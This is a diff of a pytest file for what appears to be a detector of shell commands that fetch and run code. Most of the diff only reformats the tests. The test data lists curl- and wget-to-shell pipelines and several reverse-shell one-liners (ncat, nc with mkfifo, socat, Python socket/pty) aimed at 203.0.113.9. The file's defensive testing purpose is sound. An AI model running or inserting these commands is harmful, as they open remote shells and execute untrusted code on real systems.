@@ -29,7 +29,7 @@ DOWNLOAD_AND_RUN = {
     f"curl {HOLE} | sh": ("curl", "sh"),
     # code from a substitution
     'bash -c "$(curl -fsSL https://get.example.sh/install.sh)"': ("curl", "bash -c"),
-    "sh -c \"$(wget -qO- http://203.0.113.9/x)\"": ("wget", "sh -c"),
+    'sh -c "$(wget -qO- http://203.0.113.9/x)"': ("wget", "sh -c"),
     'python -c "$(curl -s http://203.0.113.9/p.py)"': ("curl", "python"),
     'perl -e "$(curl -s http://203.0.113.9/p.pl)"': ("curl", "perl"),
     "sh <(curl -s http://203.0.113.9/x)": ("curl", "sh"),
@@ -78,8 +78,8 @@ DOWNLOAD_AND_RUN = {
     "ncat 203.0.113.9 4242 -e /bin/bash": ("ncat",),
     "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 4242 >/tmp/f": ("sh", "nc"),
     "socat exec:'bash -li',pty,stderr tcp:203.0.113.9:4242": ("socat",),
-    "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4242));"
-    "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'": ("python3", "reverse shell"),
+    'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4242));'
+    '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'': ("python3", "reverse shell"),
 }
 
 BENIGN = [
@@ -136,35 +136,49 @@ def test_parse_keeps_quoted_words_whole_and_reads_substitutions():
     assert [w.text for w in second.words] == ["tee", "log"]
 
 
-@pytest.mark.parametrize(("argv", "command"), [
-    (["sh", "-c", "ls -l"], "ls -l"),
-    (["/bin/sh", "-c", "ls"], "ls"),
-    (["bash", "-lc", "make test"], "make test"),
-    (["bash", "-ec", "x"], "x"),
-    (["dash", "-c", "x", "arg0", "arg1"], "x"),
-    (["zsh", "-c", "x"], "x"),
-    (["/usr/bin/env", "bash", "-c", "x"], "x"),
-    (["env", "-i", "PATH=/bin", "sh", "-c", "x"], "x"),
-    (["sudo", "-u", "root", "sh", "-c", "x"], "x"),
-    (["busybox", "sh", "-c", "x"], "x"),
-    (["bash", "-o", "pipefail", "-c", "x"], "x"),
-    (["bash", "--norc", "-c", "x"], "x"),
-    (["sh", "-c", "--", "x"], "x"),
-    (["bash", "script.sh"], None),
-    (["bash"], None),
-    (["git", "status"], None),
-    (["python3", "-c", "print(1)"], None),
-    ([], None),
-])
+@pytest.mark.parametrize(
+    ("argv", "command"),
+    [
+        (["sh", "-c", "ls -l"], "ls -l"),
+        (["/bin/sh", "-c", "ls"], "ls"),
+        (["bash", "-lc", "make test"], "make test"),
+        (["bash", "-ec", "x"], "x"),
+        (["dash", "-c", "x", "arg0", "arg1"], "x"),
+        (["zsh", "-c", "x"], "x"),
+        (["/usr/bin/env", "bash", "-c", "x"], "x"),
+        (["env", "-i", "PATH=/bin", "sh", "-c", "x"], "x"),
+        (["sudo", "-u", "root", "sh", "-c", "x"], "x"),
+        (["busybox", "sh", "-c", "x"], "x"),
+        (["bash", "-o", "pipefail", "-c", "x"], "x"),
+        (["bash", "--norc", "-c", "x"], "x"),
+        (["sh", "-c", "--", "x"], "x"),
+        (["bash", "script.sh"], None),
+        (["bash"], None),
+        (["git", "status"], None),
+        (["python3", "-c", "print(1)"], None),
+        ([], None),
+    ],
+)
 def test_shell_command(argv, command):
     assert shell_command(argv) == command
 
 
-@pytest.mark.parametrize(("argv", "name"), [
-    (["sh"], "sh"), (["bash", "-s"], "bash"), (["bash", "-s", "--", "--yes"], "bash"), (["python3", "-"], "python3"),
-    (["sudo", "bash"], "bash"), (["perl"], "perl"), (["sh", "-i"], "sh"),
-    (["sh", "-c", "x"], None), (["python3", "x.py"], None), (["python3", "-m", "json.tool"], None), (["cat"], None),
-])
+@pytest.mark.parametrize(
+    ("argv", "name"),
+    [
+        (["sh"], "sh"),
+        (["bash", "-s"], "bash"),
+        (["bash", "-s", "--", "--yes"], "bash"),
+        (["python3", "-"], "python3"),
+        (["sudo", "bash"], "bash"),
+        (["perl"], "perl"),
+        (["sh", "-i"], "sh"),
+        (["sh", "-c", "x"], None),
+        (["python3", "x.py"], None),
+        (["python3", "-m", "json.tool"], None),
+        (["cat"], None),
+    ],
+)
 def test_stdin_interpreter(argv, name):
     assert stdin_interpreter(argv) == name
 
@@ -173,8 +187,21 @@ def test_never_raises_and_stays_fast_on_noise():
     import random
     import time
 
-    pieces = list("()<>|&;$`'\"\\{} \n\tabc-") + ["curl ", "http://h ", "$(", "<(", "<<", "EOF\n", "sh",
-                                                "bash -c ", "|sh", "wget -O- ", "eval ", "echo '", "${IFS}"]
+    pieces = list("()<>|&;$`'\"\\{} \n\tabc-") + [
+        "curl ",
+        "http://h ",
+        "$(",
+        "<(",
+        "<<",
+        "EOF\n",
+        "sh",
+        "bash -c ",
+        "|sh",
+        "wget -O- ",
+        "eval ",
+        "echo '",
+        "${IFS}",
+    ]
     rng = random.Random(12)
     slowest = 0.0
     for _ in range(3000):
